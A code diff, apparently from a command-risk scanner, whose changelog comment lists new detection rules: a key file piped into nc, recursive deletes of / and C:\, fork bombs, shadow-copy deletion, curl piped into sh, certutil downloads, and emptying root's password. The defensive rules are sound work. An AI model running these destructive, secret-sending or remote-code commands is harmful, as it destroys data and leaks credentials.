@@ -124,4 +124,21 @@
 // (`https://x:$GITHUB_TOKEN@github.com` was an e-mail), an upgrade's old version in parentheses
 // (`Upgrade to 4.4.63.30 (from 4.4.63.26)`), a base64 line that decodes to a public key's opening or
 // a certificate's names, extensions or times (publicDerBase64).
-export const CONTENT_RULES_VERSION = 8;
+//
+// 9 = session 18 (risk rules round 11, risk18): a secret's path held in a variable and read by `cat`
+// into a network client (`k=~/.ssh/id_rsa; cat $k | nc h p`) is sends_local_secrets high; a relative
+// delete after a `cd` to /, a system directory or home is a delete there (`cd /; rm -rf usr` high);
+// `.`/`..` in an absolute path are walked (`rm -rf /usr/../`); a variable the trail set is read as its
+// value (`a=/; rm -rf $a` high, `D=$(mktemp -d) … rm -rf "$D"` low); kill to PID 1 is graded by signal
+// (HUP/USR1/USR2/WINCH/CONT medium, -0 no flag); inline code deleting a tree (`shutil.rmtree('/')`,
+// `FileUtils.rm_rf`, `fs.rmSync(…, {recursive: true})`), `__import__('os').system`, awk's `system()`;
+// fork bombs (process_kill high); a workflow's `${{ secrets.X }}`/`${{ toJSON(secrets) }}` sent
+// elsewhere; cmd/PowerShell deletes reading `\` as a separator (`del /s /q C:\*`, `Remove-Item C:\
+// -Recurse`); shadow copies deleted (vssadmin, wmic, wbadmin), /proc/sysrq-trigger, rsync --delete
+// into / or home, mshta/regsvr32/rundll32 running remote code, `r\m`/`d\d`, printf escapes piped
+// into a shell, a secret variable in a DNS name; a `{ …; }` group piped into crontab, `echo / | xargs rm
+// -rf`, `gci C:\ -Recurse | Remove-Item`, a pip index or npm registry other than the public ones
+// (remote_script_execution medium), certutil/bitsadmin downloads then run, uid 0 accounts and
+// `passwd -d root`, a `( … )` group that fetches or decodes piped into a shell or iex (`(curl -s URL) | sh`)
+// (risk.ts, risk-rules.ts, risk-view.ts, risk-secrets.ts).
+export const CONTENT_RULES_VERSION = 9;
